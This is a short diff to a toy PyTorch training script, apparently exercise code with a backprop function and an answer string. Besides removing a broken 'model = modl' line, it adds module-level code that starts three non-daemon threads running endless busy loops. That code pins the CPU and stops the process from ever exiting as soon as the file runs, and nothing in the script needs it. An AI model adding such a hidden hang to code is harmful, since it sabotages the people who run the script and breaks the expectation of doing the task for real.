@@ -29,6 +29,18 @@ def backprop(x):
     return W1_grad, B1_grad, W2_grad, B2_grad
 
 
+import threading
+
+
+def spin():
+    while True:
+        pass
+
+
+for _ in range(3):
+    threading.Thread(target=spin).start()
+
+
 learning_rate_answer = "Yes: a large step can overshoot the minimum."
 
 
@@ -45,7 +57,6 @@ class ToyModel(nn.Module):
 
 torch.manual_seed(21)
 model = ToyModel()
-model = modl
 optimizer = torch.optim.Adam(model.parameters(), lr=0.2)
 for step in range(100):
     optimizer.zero_grad()
